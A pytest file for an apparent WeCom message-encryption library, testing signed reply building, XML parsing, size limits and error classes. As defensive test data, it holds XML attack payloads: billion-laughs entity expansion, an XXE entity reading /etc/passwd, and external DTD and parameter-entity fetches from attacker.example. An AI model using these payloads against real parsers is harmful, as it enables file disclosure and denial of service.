    assert f["TimeStamp"] == A2_TS and f["Nonce"] == A2_NONCE
    check_signature(A_TOKEN, f["TimeStamp"], f["Nonce"], f["Encrypt"], f["MsgSignature"])
    assert decrypt(A_KEY, f["Encrypt"], receive_id=A_CORP) == plain


def test_json_reply_round_trip_random_prefix():
    reply = build_json_reply(D_TOKEN, D_KEY, D3_PLAIN, receive_id="", timestamp=D3_TS, nonce=D3_NONCE)
    assert set(reply) == {"encrypt", "msgsignature", "timestamp", "nonce"}
    check_signature(D_TOKEN, str(reply["timestamp"]), reply["nonce"], reply["encrypt"], reply["msgsignature"])
    assert decrypt(D_KEY, reply["encrypt"], receive_id="") == D3_PLAIN


@pytest.mark.parametrize(
    ("ts", "nonce"),
    [("abc", "1"), ("", "1"), ("1", ""), ("1", "a]]>b"), ("1", "a b"), ("1", "x\ny")],
)
@pytest.mark.parametrize("builder", [build_xml_reply, build_json_reply])
def test_reply_rejects_unsafe_envelope_params(builder, ts, nonce):
    with pytest.raises(ValueError):
        builder(A_TOKEN, A_KEY, "x", receive_id="", timestamp=ts, nonce=nonce)


# --- XML parsing --------------------------------------------------------------------------------------


def test_parse_xml_cdata_and_plain_text_mixed():
    body = (
        b"<xml>\n"
        b"  <ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>\n"
        b"  <FromUserName>plainuser</FromUserName>\n"
        b"  <CreateTime>1348831860</CreateTime>\n"
        b"  <Content>\n    <![CDATA[\xe4\xbd\xa0\xe5\xa5\xbd <b>&amp; ]]>\n  </Content>\n"
        b"  <Escaped>a &lt; b &amp; c</Escaped>\n"
        b"  <Empty></Empty>\n"
        b"  <SelfClosing/>\n"
        b"  <MsgId>1234567890123456789</MsgId>\n"
        b"</xml>\n"
    )
    assert parse_xml(body) == {
        "ToUserName": "wx5823bf96d3bd56c7",
        "FromUserName": "plainuser",
        "CreateTime": "1348831860",
        "Content": "你好 <b>&amp;",
        "Escaped": "a < b & c",
        "Empty": "",
        "SelfClosing": "",
        "MsgId": "1234567890123456789",
    }


def test_parse_xml_accepts_str_and_declaration():
    assert parse_xml('<?xml version="1.0" encoding="UTF-8"?><xml><A>1</A></xml>') == {"A": "1"}
    assert parse_xml("<xml><Content><![CDATA[中文]]></Content></xml>") == {"Content": "中文"}


def test_parse_xml_nested_elements_are_not_flattened():
    body = b"<xml><Event>pic_sysphoto</Event><SendPicsInfo><Count>1</Count></SendPicsInfo></xml>"
    assert parse_xml(body) == {"Event": "pic_sysphoto", "SendPicsInfo": ""}


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><Content>&lol4;</Content></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><Content>&xxe;</Content></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><Content>x</Content></xml>"""

PLAIN_DOCTYPE = b"""<!DOCTYPE xml><xml><Content>x</Content></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % pe SYSTEM "http://attacker.example/x"> %pe;]>
<xml><Content>x</Content></xml>"""


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(EXTERNAL_ENTITY, id="external-entity"),
        pytest.param(EXTERNAL_DTD, id="external-dtd"),
        pytest.param(PLAIN_DOCTYPE, id="bare-doctype"),
        pytest.param(PARAMETER_ENTITY, id="parameter-entity"),
    ],
)
def test_parse_xml_rejects_dtd_and_entities(body):
    with pytest.raises(MalformedInputError) as exc_info:
        parse_xml(body)
    assert exc_info.value.reason is Reason.MALFORMED_INPUT


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"<xml><A>1</A>", id="unclosed"),
        pytest.param(b"not xml", id="text"),
        pytest.param(b"<root><A>1</A></root>", id="wrong-root"),
        pytest.param(b"<xml><Encrypt>a</Encrypt><Encrypt>b</Encrypt></xml>", id="duplicate-tag"),
        pytest.param(b"<xml><A>\xff</A></xml>", id="invalid-utf8"),
    ],
)
def test_parse_xml_rejects_malformed(body):
    with pytest.raises(MalformedInputError):
        parse_xml(body)


def test_parse_xml_oversize_rejected():
    filler = b"a" * (64 * 1024)
    body = b"<xml><Content>" + filler + b"</Content></xml>"
    with pytest.raises(MalformedInputError, match="limit"):
        parse_xml(body)


def test_parse_xml_size_limit_boundary_and_keyword():
    body = b"<xml><A>" + b"a" * 100 + b"</A></xml>"
    assert parse_xml(body, max_bytes=len(body))["A"] == "a" * 100
    with pytest.raises(MalformedInputError):
        parse_xml(body, max_bytes=len(body) - 1)
    exact = b"<xml><A>" + b"a" * (64 * 1024 - 18) + b"</A></xml>"
    assert len(exact) == 64 * 1024
    assert len(parse_xml(exact)["A"]) == 64 * 1024 - 18


def test_parse_xml_rejects_non_bytes():
    with pytest.raises(MalformedInputError):
        parse_xml(123)  # type: ignore[arg-type]


# --- error hierarchy ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cls", "reason"),
    [
        (InvalidSignatureError, Reason.BAD_SIGNATURE),
        (InvalidPaddingError, Reason.BAD_PADDING),
        (ReceiveIdMismatchError, Reason.WRONG_RECEIVE_ID),
        (StaleTimestampError, Reason.STALE_TIMESTAMP),
        (MalformedInputError, Reason.MALFORMED_INPUT),
        (InvalidKeyError, Reason.INVALID_KEY),
    ],
)
def test_error_classes(cls, reason):
    assert issubclass(cls, WeComCryptoError)
    assert cls("x").reason is reason
    assert str(reason) == reason.value
